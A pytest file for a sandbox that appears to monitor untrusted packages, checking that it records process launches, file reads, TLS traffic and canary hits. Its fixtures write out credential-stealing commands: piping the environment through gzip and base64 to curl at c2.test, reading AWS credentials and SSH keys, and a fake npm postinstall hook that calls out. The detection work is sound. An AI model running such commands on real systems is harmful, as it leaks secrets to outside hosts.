"""What is written down, in the real sandbox."""

import hashlib
import shutil
import sys
from pathlib import Path

import pytest

from lazaretto.adapters.sandbox.session import Order, run_order
from lazaretto.model.behaviour import Action
from lazaretto.model.finding import Phase

pytestmark = [pytest.mark.sandbox, pytest.mark.skipif(sys.platform != "linux", reason="Linux only")]
PYTHON = "/usr/bin/python3"


def ran(tools, project, script, *, program="/bin/sh", option="-c"):
    return run_order(Order(project, (program, option, script), Phase.RUN, 40), tools).record


def of(record, action):
    return [event for event in record.events if event.action is action]


def test_a_program_has_its_environment_digest_and_end(tools, project):
    record = ran(tools, project, "cd /tmp; FOO=bar /bin/true one; env -u LANG /bin/sleep 0.2")
    shell, true, *_, sleep = record.programs
    assert (true.argv, true.cwd, true.parent) == (("/bin/true", "one"), "/tmp", 0)
    assert ("FOO", "bar") in true.added
    assert true.digest == hashlib.sha256(Path("/bin/true").read_bytes()).hexdigest()
    assert "LANG" in sleep.removed
    assert shell.end is not None
    assert 0.15 < sleep.end - sleep.at < 5
    assert record.gaps == ()


def test_an_orphan_is_still_its_parents(tools, project):
    code = (
        "import os, socket, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(0.4)\n"
        "        socket.create_connection(('orphan.test', 80)).close()\n"
        "    os._exit(0)\n"
        "os._exit(0)\n"
    )
    (project / "a.py").write_text(code)
    record = ran(tools, project, f"FOO=1 {PYTHON} a.py; sleep 1.5")
    (connect,) = of(record, Action.CONNECT)
    assert connect.target == "orphan.test:80"
    assert record.programs[connect.process].argv == (PYTHON, "a.py")


def test_files_are_told_with_what_was_done(tools, project):
    (project / "in.txt").write_text("x")
    record = ran(
        tools,
        project,
        "cat in.txt; cp in.txt /tmp/a; mv /tmp/a $HOME/b; ln -s /etc/passwd $HOME/c; rm in.txt; chmod 755 $HOME/b;"
        "cat $HOME/.aws/credentials /etc/machine-id $HOME/.config/other; ln $HOME/b $HOME/d",
    )
    home, inside = record.home, record.project
    writes = {(event.target, event.detail) for event in of(record, Action.WRITE)}
    assert ("/tmp/a", "") in writes
    assert (f"{home}/b", "rename /tmp/a") in writes
    assert (f"{home}/c", "symlink /etc/passwd") in writes
    assert (f"{home}/b", "mode 755") in writes
    assert (f"{home}/d", f"link {home}/b") in writes
    assert f"{inside}/in.txt" in {event.target for event in of(record, Action.DELETE)}
    reads = {event.target for event in of(record, Action.READ)}
    assert reads == {f"{home}/.aws/credentials", "/etc/machine-id", f"{home}/.config/other", f"{home}/b"}
    counted = dict(record.counted)
    assert counted["read PROJECT"] >= 2
    assert counted["read /usr/lib"] + counted.get("read /lib/x86_64-linux-gnu", 0) > 3


def test_attempts_are_told(tools, project):
    code = (
        "import socket, os, ctypes\n"
        "for family, kind in ((17, 3), (40, 1), (2, 3)):\n"
        "    try: socket.socket(family, kind, 1)\n"
        "    except OSError: pass\n"
        "libc = ctypes.CDLL(None)\n"
        "libc.syscall(29, 5, 0, 0); libc.syscall(101, 16, 1, 0, 0); libc.syscall(272, 0x10000000)\n"
        "os.memfd_create('x')\n"
    )
    (project / "a.py").write_text(code)
    record = ran(tools, project, f"{PYTHON} a.py")
    told = {event.target for event in of(record, Action.FORBIDDEN)}
    assert {"socket packet", "socket vsock", "socket raw", "shmget", "ptrace", "unshare"} <= told
    assert [event.target for event in of(record, Action.MEMORY_FILE)] == ["x"]


CLIENTS = {
    "curl": "curl -s -H 'X-A: 1' -d secret=1 https://c2.test/p",
    "python": "python3 -c 'import urllib.request as u;"
    ' u.urlopen(u.Request("https://c2.test/p", b"secret=1", {"X-A": "1"})).read()\'',
    "node": 'node -e \'fetch("https://c2.test/p", {method: "POST", body: "secret=1", headers: {"X-A": "1"}})\'',
}


@pytest.mark.parametrize("name", CLIENTS)
def test_what_is_told_over_tls_is_read(name, tools, project):
    if name != "python" and shutil.which(name) is None:
        pytest.skip("not here")
    record = ran(tools, project, CLIENTS[name])
    assert record.code == 0
    (flow,) = [flow for flow in record.flows if flow.kind != "name"]
    assert (flow.kind, flow.host, flow.port, flow.name) == ("https", "c2.test", 443, "c2.test")
    assert flow.request == "POST /p HTTP/1.1"
    assert ("x-a", "1") in {(key.lower(), value) for key, value in flow.headers}
    assert flow.data.endswith(b"secret=1")
    assert len(flow.ja3) == 32
    assert record.programs[flow.process].argv[0].endswith(name if name != "python" else "python3")
    (request,) = of(record, Action.REQUEST)
    assert request.target == "c2.test:443"


def test_the_environment_holds_bait_too(tools, project):
    record = ran(tools, project, "env | gzip | base64 -w0 | curl -s --data-binary @- https://c2.test/e")
    told = {event.detail for event in of(record, Action.CANARY)}
    assert "$NPM_TOKEN (base64, gzip, plain)" in told
    assert "$AWS_SECRET_ACCESS_KEY (base64, gzip, plain)" in told


def test_who_does_not_trust_us_is_told(tools, project):
    record = ran(tools, project, "SSL_CERT_FILE=/dev/null CURL_CA_BUNDLE=/dev/null curl -s https://pinned.test/")
    (flow,) = [flow for flow in record.flows if flow.kind != "name"]
    assert (flow.kind, flow.host, flow.name) == ("tls", "pinned.test", "pinned.test")
    assert b"not trusted" in flow.answer


def test_a_script_of_a_package_is_named(tools, project):
    inner = project / "node_modules" / "graph-x"
    inner.mkdir(parents=True)
    (inner / "package.json").write_text(
        '{"name": "graph-x", "version": "2.2.9", "scripts": {"postinstall": "curl -s http://c2.test/a; true"}}'
    )
    (project / "package.json").write_text('{"name": "p", "version": "1.0.0"}')
    record = run_order(Order(project, ("/usr/bin/env", "npm", "rebuild"), Phase.INSTALL, 40), tools).record
    (request,) = [event for event in of(record, Action.REQUEST) if event.target == "c2.test:80"]
    assert request.package == "npm:graph-x@2.2.9"
    program = record.programs[request.process]
    assert (program.script, program.how) == ("postinstall", "lifecycle")
    assert [one.argv[0].rpartition("/")[2] for one in record.chain(request.process)][-2:] == ["sh", "curl"]


def test_a_build_back_end_is_named(tools, project):
    (project / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n[project]\nname = "py-x"\nversion = "0.3"\n'
    )
    (project / "own.py").write_text(
        "import subprocess\ndef build_wheel(*a, **k):\n    subprocess.run(['true'])\n    raise OSError\n"
    )
    words = ("/usr/bin/python3", "-m", "pip", "wheel", "--no-index", "--no-deps", "--no-build-isolation", ".")
    record = run_order(Order(project, words, Phase.BUILD, 40), tools).record
    true = next(one for one in record.programs if one.argv == ("true",))
    assert (true.package, true.script, true.how) == ("pypi:py-x@0.3", "prepare_metadata_for_build_wheel", "build")


def test_the_code_that_was_loaded_last_is_a_hint(tools, project):
    inner = project / "node_modules" / "x"
    inner.mkdir(parents=True)
    (inner / "index.js").write_text("require('fs').readFileSync(process.env.HOME + '/.ssh/id_ed25519')")
    (project / "a.js").write_text("require('x')")
    record = ran(tools, project, "node a.js")
    (read,) = [event for event in of(record, Action.READ) if event.target in record.decoys]
    assert (read.package, read.near) == ("", "npm:x")


@pytest.mark.slow
def test_no_open_is_lost(tools, project):
    code = "import os\nfor at in range(300000):\n    os.close(os.open(f'/home/dev/f{at}', os.O_RDONLY | os.O_CREAT))\n"
    (project / "a.py").write_text(code)
    record = run_order(Order(project, (PYTHON, "a.py"), Phase.RUN, 200), tools).record
    assert record.code == 0
    assert len({event.target for event in of(record, Action.WRITE)}) == 300000
    assert record.gaps == ()
